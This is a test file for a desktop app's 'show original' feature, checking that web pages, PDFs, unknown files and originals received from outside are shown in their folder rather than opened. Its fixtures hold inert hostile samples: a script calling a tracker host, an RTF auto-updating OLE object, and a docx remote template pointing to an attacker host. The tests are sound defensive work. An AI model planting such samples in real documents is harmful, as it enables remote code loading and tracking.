import { writeFile, mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { showOriginal } from '../../../electron/library/showOriginal';
import { receiveOriginal } from '../../../electron/originals/libraryOriginals';
import { markImported, recordEarlierOriginals } from '../../../electron/originals/importedOriginals';
import { sha256Hex, storeOriginal, storeOriginalSync } from '../../../electron/originals/originalStore';
import { UserFacingError } from '../../../electron/userFacingError';
import type { ShellService } from '../../../electron/services';
import { tempDir } from '../fixtures';

const stored = (extension: string) => `${'a'.repeat(64)}.${extension}`;
const STORED = stored('docx');
let work: Awaited<ReturnType<typeof tempDir>>;
let opened: string[];
let revealed: string[];
beforeEach(async () => {
  work = await tempDir();
  opened = [];
  revealed = [];
  await mkdir(join(work.path, 'library'));
});
afterEach(() => work.remove());

const shellAnswering = (error: string): ShellService => ({
  openPath: async (path: string) => {
    opened.push(path);
    return error;
  },
  showItemInFolder: (path: string) => {
    revealed.push(path);
  },
});

describe('showing a stored original', () => {
  test('asks the system to open a document file in the library folder', async () => {
    await writeFile(join(work.path, 'library', STORED), 'PK');
    await markImported(join(work.path, 'library'), STORED);
    expect(await showOriginal(join(work.path, 'library'), STORED, shellAnswering(''))).toEqual({ opened: true });
    expect(opened).toEqual([join(work.path, 'library', STORED)]);
    expect(revealed).toEqual([]);
  });

  test.each(['txt', 'md', 'docx', 'odt', 'rtf', 'csv', 'tsv', 'xlsx'])('a .%s original is opened with its program', async (extension) => {
    await writeFile(join(work.path, 'library', stored(extension)), 'content');
    await markImported(join(work.path, 'library'), stored(extension));
    await showOriginal(join(work.path, 'library'), stored(extension), shellAnswering(''));
    expect(opened).toEqual([join(work.path, 'library', stored(extension))]);
  });

  test.each(['html', 'htm', 'xhtml', 'svg', 'xml'])('a web page (.%s) is never opened, where a browser would run its scripts: it is shown in its folder, and why', async (extension) => {
    const name = stored(extension);
    await writeFile(join(work.path, 'library', name), '<p>Article</p><script>fetch("https://tracker.example")</script>');
    const shown = await showOriginal(join(work.path, 'library'), name, shellAnswering(''));
    expect(opened).toEqual([]);
    expect(revealed).toEqual([join(work.path, 'library', name)]);
    expect(shown).toEqual({
      opened: false,
      message: `The original is a web page (.${extension}): opening it would run any scripts it holds, so Framewise shows its file in the library folder instead of opening it. Open it with a text editor to read its source, or with a browser only if you trust it.`,
    });
  });

  test('a PDF, which may carry JavaScript for its reader, is shown in its folder, not opened', async () => {
    await writeFile(join(work.path, 'library', stored('pdf')), '%PDF-1.7');
    const shown = await showOriginal(join(work.path, 'library'), stored('pdf'), shellAnswering(''));
    expect(opened).toEqual([]);
    expect(revealed).toEqual([join(work.path, 'library', stored('pdf'))]);
    expect(shown).toMatchObject({ opened: false, message: expect.stringMatching(/^The original is a PDF, which can hold scripts .* Open it with the PDF reader of your choice\.$/) });
  });

  test('an extension not known to be safe (a stored name of any form the contract allows) is shown in its folder, not opened', async () => {
    await writeFile(join(work.path, 'library', stored('exe')), 'MZ');
    const shown = await showOriginal(join(work.path, 'library'), stored('exe'), shellAnswering(''));
    expect(opened).toEqual([]);
    expect(revealed).toHaveLength(1);
    expect(shown).toMatchObject({ opened: false, message: expect.stringContaining('.exe') });
  });

  test('a missing original is reported with what to do, and nothing is opened or shown', async () => {
    const missing = showOriginal(join(work.path, 'library'), STORED, shellAnswering(''));
    await expect(missing).rejects.toBeInstanceOf(UserFacingError);
    await expect(missing).rejects.toThrow('The original file is missing from the library folder; import it again to restore it.');
    await expect(showOriginal(join(work.path, 'library'), stored('html'), shellAnswering(''))).rejects.toThrow(/missing from the library folder/);
    expect(opened).toEqual([]);
    expect(revealed).toEqual([]);
  });

  test('a folder in place of the original is not opened either', async () => {
    await mkdir(join(work.path, 'library', STORED));
    await expect(showOriginal(join(work.path, 'library'), STORED, shellAnswering(''))).rejects.toThrow(/missing from the library folder/);
    expect(opened).toEqual([]);
  });

  test("the system's own refusal is passed on", async () => {
    await writeFile(join(work.path, 'library', STORED), 'PK');
    await markImported(join(work.path, 'library'), STORED);
    await expect(showOriginal(join(work.path, 'library'), STORED, shellAnswering('No application is registered for .docx files'))).rejects.toThrow(
      'The system could not open the original: No application is registered for .docx files',
    );
  });
});

// The renderer may be running an attacker's script: what it hands main (an original from a project
// file or a REFI-QDA archive) is bytes it chose, and a .docx or .rtf can carry OLE objects and DDE
// fields. Only originals main stored from the researcher's own imports are opened in their program.
describe('showing an original by where it came from', () => {
  const library = () => join(work.path, 'library');
  const rtf = new TextEncoder().encode('{\\rtf1 {\\object\\objautlink\\objupdate {\\*\\objdata 0105}}}');
  const docx = new TextEncoder().encode('PK\u0003\u0004 word/settings.xml attachedTemplate http://attacker.example/t.dotm');

  test('an original received from the renderer (a project file, an archive) is shown in its folder, not opened, and why', async () => {
    for (const [bytes, extension] of [[rtf, 'rtf'], [docx, 'docx']] as const) {
      const name = `${sha256Hex(bytes)}.${extension}`;
      await receiveOriginal(library(), name, bytes);
      const shown = await showOriginal(library(), name, shellAnswering(''));
      expect(shown).toEqual({
        opened: false,
        message:
          "Framewise cannot tell that this original came from a file imported on this computer (it may have come in a project file, an archive or a backup), so it shows its file in the library folder instead of opening it. Open it yourself if you trust where it came from, or import that file again to have Framewise open it.",
      });
    }
    expect(opened).toEqual([]);
    expect(revealed).toEqual([join(library(), `${sha256Hex(rtf)}.rtf`), join(library(), `${sha256Hex(docx)}.docx`)]);
  });

  test('an original stored by an import is opened in its program, also after a restart (the record is on disk)', async () => {
    const name = await storeOriginal(library(), sha256Hex(docx), 'docx', docx);
    const byThread = storeOriginalSync(library(), sha256Hex(rtf), 'rtf', rtf);
    expect(await showOriginal(library(), name, shellAnswering(''))).toEqual({ opened: true });
    expect(await showOriginal(library(), byThread, shellAnswering(''))).toEqual({ opened: true });
    expect(opened).toEqual([join(library(), name), join(library(), byThread)]);
    expect(revealed).toEqual([]);
  });

  test('an original received before or after the same bytes were imported counts as imported; received under another extension it does not', async () => {
    const name = `${sha256Hex(docx)}.docx`;
    await receiveOriginal(library(), name, docx);
    await storeOriginal(library(), sha256Hex(docx), 'docx', docx);
    await receiveOriginal(library(), name, docx);
    await receiveOriginal(library(), `${sha256Hex(docx)}.rtf`, docx);
    await showOriginal(library(), name, shellAnswering(''));
    await showOriginal(library(), `${sha256Hex(docx)}.rtf`, shellAnswering(''));
    expect(opened).toEqual([join(library(), name)]);
    expect(revealed).toEqual([join(library(), `${sha256Hex(docx)}.rtf`)]);
  });

  test('a library from before the record is taken as it was, once: its originals open; one received later does not', async () => {
    await writeFile(join(library(), STORED), 'PK');
    // Without the record, nothing tells an import from a received file: shown in its folder.
    expect(await showOriginal(library(), STORED, shellAnswering(''))).toMatchObject({ opened: false });
    await recordEarlierOriginals(library());
    expect(await showOriginal(library(), STORED, shellAnswering(''))).toEqual({ opened: true });
    const name = `${sha256Hex(rtf)}.rtf`;
    await receiveOriginal(library(), name, rtf);
    // The record exists now: a second start takes nothing more as imported.
    await recordEarlierOriginals(library());
    expect(await showOriginal(library(), name, shellAnswering(''))).toMatchObject({ opened: false });
    expect(opened).toEqual([join(library(), STORED)]);
    expect(revealed).toEqual([join(library(), STORED), join(library(), name)]);
  });

  test('a web page keeps its own reason, imported or not', async () => {
    await writeFile(join(library(), stored('html')), '<script></script>');
    await markImported(library(), stored('html'));
    expect(await showOriginal(library(), stored('html'), shellAnswering(''))).toMatchObject({ opened: false, message: expect.stringContaining('web page') });
    expect(opened).toEqual([]);
  });
});
